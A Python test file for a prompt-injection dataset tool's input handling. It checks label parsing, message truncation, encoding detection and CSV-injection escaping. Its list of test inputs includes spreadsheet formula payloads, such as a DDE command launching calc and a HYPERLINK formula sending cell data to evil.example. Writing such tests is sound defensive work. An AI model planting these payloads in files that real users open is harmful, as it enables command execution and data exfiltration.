"""Hostile and odd data input: label spellings, huge values, wrong encodings and spreadsheet formulas.

Each test reproduces a finding of issue #16 on real files: lookalike class ids are refused, long values are cut
in messages, a UTF-16 file is named as such, and the CSVs the pipeline writes are safe to open in a
spreadsheet while training still sees every text exactly as it was in the input.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from prompt_sentinel.config import SentinelConfig, load_config
from prompt_sentinel.data.loading import (
    frame_to_csv_bytes,
    load_dataset,
    parse_label,
    read_data_csv,
    read_table,
)
from prompt_sentinel.data.split import read_split
from prompt_sentinel.data.validation import validate_dataset, write_validation_outputs
from prompt_sentinel.errors import DataError, DataValidationError
from prompt_sentinel.run_layout import CLEANED_DATA as CLEANED_FILE
from prompt_sentinel.stages import prepare

from .test_validation import HEADER, base_rows, write_csv

# Texts a spreadsheet would run as formulas (OWASP "CSV injection"), plus the texts that make an escaping
# scheme ambiguous if it is done carelessly (a text that already starts with the escape character).
FORMULA_TEXTS = [
    "=cmd|' /C calc'!A0",
    "+1+2 is three, right?",
    "-2+3 explain this arithmetic",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1 hidden behind a tab",
    "\r=1+1 hidden behind a carriage return",
    "'quoted already",
    "''twice quoted",
    "'=looks escaped but is the real text",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "a carriage return\rin the middle of a text (a bare CR once split the record in cleaned.csv)",
]


@pytest.fixture
def cfg() -> SentinelConfig:
    return load_config()


# ------------------------------------------------------------------------------------------------ labels
@pytest.mark.parametrize("spelling", ["1.0", "1e0", "-0", "+1", "01.", "\u0661", "\uff12", "1_0", "0x1", "Ⅰ", "¹"])
def test_lookalike_class_ids_are_refused(cfg: SentinelConfig, spelling: str) -> None:
    with pytest.raises(ValueError, match="plain ASCII integer") as info:
        parse_label(spelling, cfg)
    assert "0..2" in str(info.value) and "benign" in str(info.value)


def test_plain_ids_and_names_are_still_accepted(cfg: SentinelConfig) -> None:
    assert [parse_label(v, cfg) for v in ("0", "1", " 2 ", "2", "malicious", "Benign", 1, 2.0)] == [
        0,
        1,
        2,
        2,
        2,
        0,
        1,
        2,
    ]


def test_lookalike_label_in_a_file_is_an_unknown_label_finding(tmp_path: Path, cfg: SentinelConfig) -> None:
    rows = [*base_rows(), ["odd-1", "a text with a float label", "1.0", "t"], ["odd-2", "arabic digit", "\u0661", "t"]]
    report = validate_dataset(write_csv(tmp_path / "data.csv", rows), cfg)
    found = [(f.check, f.row, f.field) for f in report.findings if f.check == "unknown_label"]
    assert found == [("unknown_label", 20, "label"), ("unknown_label", 21, "label")]
    assert len(report.cleaned) == len(base_rows())


def test_a_huge_label_is_cut_in_the_message(tmp_path: Path, cfg: SentinelConfig) -> None:
    huge = "9" * 5000
    with pytest.raises(ValueError) as info:
        parse_label(huge, cfg)
    message = str(info.value)
    assert len(message) < 300 and "5,000 characters" in message and huge not in message
    path = write_csv(tmp_path / "data.csv", [*base_rows(), ["big", "some text", huge, "t"]])
    with pytest.raises(DataValidationError) as loaded:
        load_dataset(path, cfg)
    assert len(str(loaded.value)) < 500 and huge not in str(loaded.value)


def test_a_huge_header_is_cut_in_the_missing_column_message(tmp_path: Path, cfg: SentinelConfig) -> None:
    path = tmp_path / "data.csv"
    path.write_text("x" * 100_000 + ",label\nhello,0\n", encoding="utf-8")
    with pytest.raises(DataError) as info:
        load_dataset(str(path), cfg)
    assert "'text' not found" in str(info.value) and len(str(info.value)) < 600


def test_text_of_the_wrong_type_is_cut_in_the_message(tmp_path: Path, cfg: SentinelConfig) -> None:
    path = tmp_path / "data.jsonl"
    path.write_text('{"text": [' + ",".join(["1"] * 5000) + '], "label": 0}\n', encoding="utf-8")
    report = validate_dataset(str(path), cfg)
    (finding,) = [f for f in report.findings if f.check == "invalid_type"]
    assert len(finding.message) < 300 and "list" in finding.message


# ---------------------------------------------------------------------------------------------- encoding
@pytest.mark.parametrize(
    ("encoding", "named"),
    [("utf-16", "UTF-16"), ("utf-16-le", "UTF-16"), ("utf-16-be", "UTF-16"), ("utf-32", "UTF-32")],
)
def test_utf16_and_utf32_files_are_named_as_such(
    tmp_path: Path, cfg: SentinelConfig, encoding: str, named: str
) -> None:
    rows = "\n".join(",".join(r) for r in [list(HEADER), *base_rows()]) + "\n"
    for suffix in (".csv", ".jsonl"):
        path = tmp_path / f"data{suffix}"
        body = rows if suffix == ".csv" else '{"text": "hello", "label": 0}\n'
        path.write_bytes(body.encode(encoding))
        with pytest.raises(DataError) as info:
            load_dataset(str(path), cfg)
        message = str(info.value)
        assert named in message and "UTF-8" in message and "not found" not in message, message
        (finding,) = read_table(str(path), cfg).findings
        assert finding.check == "unreadable" and named in finding.message
        report = validate_dataset(str(path), cfg)
        assert not report.ok and named in report.error_message()


def test_read_data_csv_names_the_encoding_too(tmp_path: Path) -> None:
    path = tmp_path / "train.csv"
    path.write_bytes("id,text,label,source,row\na,hello,0,,2\n".encode("utf-16"))
    with pytest.raises(DataError, match="UTF-16"):
        read_data_csv(str(path))


def test_utf8_with_bom_and_latin1_bytes_are_not_mistaken_for_utf16(tmp_path: Path, cfg: SentinelConfig) -> None:
    path = tmp_path / "data.csv"
    path.write_bytes(b"\xef\xbb\xbf" + "\n".join(",".join(r) for r in [list(HEADER), *base_rows()]).encode() + b"\n")
    assert len(load_dataset(str(path), cfg)) == len(base_rows())
    latin = tmp_path / "latin.csv"
    latin.write_bytes(b"text,label\nna\xefve,0\n")
    with pytest.raises(DataValidationError, match="invalid UTF-8 byte 0xEF"):  # a per-row finding, as before
        load_dataset(str(latin), cfg)


# ------------------------------------------------------------------------------------------- formulas
def _cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def _assert_spreadsheet_safe(data: bytes) -> None:
    for row in _cells(data):
        for cell in row:
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r", "\n"), f"formula-like cell {cell!r}"


def formula_rows() -> list[list[str]]:
    rows = base_rows()
    rows += [[f"f-{i}", text, "2", "web"] for i, text in enumerate(FORMULA_TEXTS)]
    rows += [["=id-formula", "an id that looks like a formula", "0", "@source"]]
    return rows


def test_cleaned_csv_is_spreadsheet_safe_and_reads_back_exactly(tmp_path: Path) -> None:
    cfg = load_config()
    report = validate_dataset(write_csv(tmp_path / "data.csv", formula_rows()), cfg)
    assert report.ok, report.error_message()
    write_validation_outputs(report, tmp_path / "out")
    cleaned = tmp_path / "out" / CLEANED_FILE
    _assert_spreadsheet_safe(cleaned.read_bytes())
    expected_texts = [r[1] for r in formula_rows()]
    back = read_data_csv(str(cleaned))
    assert back["text"].tolist() == expected_texts
    assert "=id-formula" in back["id"].tolist() and "@source" in back["source"].tolist()
    # the generic loader (sentinel train/evaluate --data cleaned.csv) restores the same texts
    assert load_dataset(str(cleaned), cfg)["text"].tolist() == expected_texts


def test_splits_are_spreadsheet_safe_and_training_sees_the_original_texts(tmp_path: Path) -> None:
    cfg = load_config()
    out = tmp_path / "splits"
    prepare.run(write_csv(tmp_path / "data.csv", formula_rows()), None, cfg, out)
    texts = []
    for name in ("train", "validation", "test"):
        _assert_spreadsheet_safe((out / f"{name}.csv").read_bytes())
        texts += read_split(out, name)["text"].tolist()
    assert sorted(texts) == sorted(r[1] for r in formula_rows())


def test_frame_round_trip_keeps_texts_that_start_with_the_escape_character(tmp_path: Path) -> None:
    import pandas as pd

    frame = pd.DataFrame({"text": FORMULA_TEXTS, "label": [0] * len(FORMULA_TEXTS)})
    data = frame_to_csv_bytes(frame)
    _assert_spreadsheet_safe(data)
    path = tmp_path / "round.csv"
    path.write_bytes(data)
    assert read_data_csv(str(path))["text"].tolist() == FORMULA_TEXTS


def test_a_users_own_file_is_read_verbatim(tmp_path: Path, cfg: SentinelConfig) -> None:
    """Only files with the exact header this package writes are un-escaped; a user's texts that start with a
    quote keep it."""
    rows = [*base_rows(), ["q", "'quoted in the user's file", "0", "t"]]
    texts = load_dataset(write_csv(tmp_path / "data.csv", rows), cfg)["text"].tolist()
    assert "'quoted in the user's file" in texts
